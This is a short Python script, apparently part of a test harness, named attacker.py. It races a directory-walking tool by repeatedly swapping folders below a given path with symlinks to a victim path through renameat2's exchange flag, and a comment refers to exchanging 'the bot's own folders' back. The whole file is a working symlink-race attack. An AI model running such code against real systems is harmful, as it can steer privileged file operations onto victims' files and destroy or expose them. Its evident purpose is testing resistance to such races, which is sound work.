"""Exchanges folders and links below a folder, as fast as it can, until its input ends.

Usage: attacker.py FOLDER VICTIM. Every folder that it meets below FOLDER is exchanged with a link to VICTIM, and mostly back.
Prints the number of exchanges at its end.
"""

import ctypes
import os
import random
import select
import sys

RENAME_EXCHANGE = 2
DEPTH_MAX = 5
# The bot's own folders are always exchanged back: otherwise it would refuse to work at all from the first exchange on.
OWN = (b".orb", b"trash", b"fences")
FOLDER_FLAGS = os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW

libc = ctypes.CDLL(None, use_errno=True)
top, victim = (os.fsencode(each) for each in sys.argv[1:])
exchanges = 0


def exchange(folder, first, second):
    global exchanges
    if libc.renameat2(folder, first, folder, second, RENAME_EXCHANGE) == 0:
        exchanges += 1


def attack(folder, depth):
    """Works by descriptor, so that its own links do not lead it to the victim."""
    try:
        names = [os.fsencode(name) for name in os.listdir(folder)]
    except OSError:
        return
    random.shuffle(names)
    for name in names:
        if name.endswith(b"~"):
            continue
        try:
            inner = os.open(name, FOLDER_FLAGS, dir_fd=folder)
        except OSError:
            continue
        try:
            link = name + b"~"
            try:
                os.symlink(victim, link, dir_fd=folder)
            except OSError:
                pass
            exchange(folder, name, link)
            if name in OWN or random.random() < 0.7:
                exchange(folder, name, link)
            if depth < DEPTH_MAX:
                attack(inner, depth + 1)
        finally:
            os.close(inner)


print("ready", flush=True)
while not select.select([sys.stdin], [], [], 0)[0]:
    start = os.open(top, FOLDER_FLAGS)
    attack(start, 0)
    os.close(start)
print(exchanges, flush=True)
